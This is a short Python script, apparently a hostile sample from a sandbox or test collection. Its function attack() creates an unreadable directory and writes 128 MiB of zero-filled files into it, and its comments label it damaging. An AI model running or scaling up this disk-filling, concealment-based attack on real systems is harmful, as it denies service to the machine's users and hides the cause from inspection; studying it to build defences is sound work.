# damaging: fills the disk in a folder that nobody can look into
# wins: nowhere, it would do harm
import os
import time


def attack():
    os.mkdir("closed", 0o300)
    for number in range(16):
        with open(f"closed/{number}", "wb") as file:
            file.write(bytes(8 * 2**20))
    time.sleep(0.5)
